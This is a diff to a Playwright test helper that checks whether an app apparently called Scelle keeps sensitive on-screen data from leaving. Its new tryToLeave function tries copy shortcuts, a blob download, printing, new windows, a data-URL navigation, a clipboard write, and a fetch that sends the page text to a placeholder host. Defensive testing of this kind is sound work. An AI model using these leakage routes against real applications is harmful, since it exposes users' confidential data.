@@ -25,15 +25,20 @@ interface Seen {
 /** Opens the invented dossiers and watches main: dialogs, windows, tools, navigations, downloads. */
 export async function watchExits(): Promise<Watched> {
 	const dir = fs.mkdtempSync(path.join(os.tmpdir(), "scelle-exits-"));
-	const downloads = path.join(dir, "downloads");
-	fs.mkdirSync(downloads);
 	const scelle = await startScelle(path.join(dir, "profile"), {
 		args: ["--demo"],
 	});
-	const { app, page } = scelle;
 	await expect(
-		page.getByRole("heading", { level: 1, name: "Échéances" }),
+		scelle.page.getByRole("heading", { level: 1, name: "Échéances" }),
 	).toBeVisible({ timeout: 150_000 });
+	return watchOn(scelle, dir);
+}
+
+/** Watches a program that runs already; `dir` is the test's own, and goes with it. */
+export async function watchOn(scelle: Scelle, dir: string): Promise<Watched> {
+	const { app, page } = scelle;
+	const downloads = path.join(dir, "downloads");
+	fs.mkdirSync(downloads);
 	await watchMain(scelle, downloads);
 	await page.evaluate(() => {
 		Object.assign(window, { stillThere: true });
@@ -99,4 +104,30 @@ async function watchMain({ app }: Scelle, downloads: string): Promise<void> {
 			});
 		}
 	}, downloads);
+}
+
+/** The shortest way of each kind, while what must not leave stands on the screen: keys, copying, files, windows, printing. */
+export async function tryToLeave(page: Page): Promise<void> {
+	await page.evaluate(() => {
+		const main = document.querySelector("main");
+		if (main) getSelection()?.selectAllChildren(main);
+	});
+	for (const key of ["c", "x", "p", "s", "u", "Shift+I", "n", "t"])
+		await page.keyboard.press(`Control+${key}`);
+	await page.evaluate(async () => {
+		const text = document.querySelector("main")?.textContent ?? "";
+		const blob = URL.createObjectURL(new Blob([text]));
+		const link = document.createElement("a");
+		Object.assign(link, { href: blob, download: "a.txt" });
+		document.body.append(link);
+		link.click();
+		link.remove();
+		document.execCommand("copy");
+		window.print();
+		window.open(blob);
+		location.assign(`data:text/plain,${encodeURIComponent(text)}`);
+		await navigator.clipboard.writeText(text).catch(() => undefined);
+		await fetch(`https://example.invalid/?${text}`).catch(() => undefined);
+		await new Promise((resolve) => setTimeout(resolve, 500));
+	});
 }
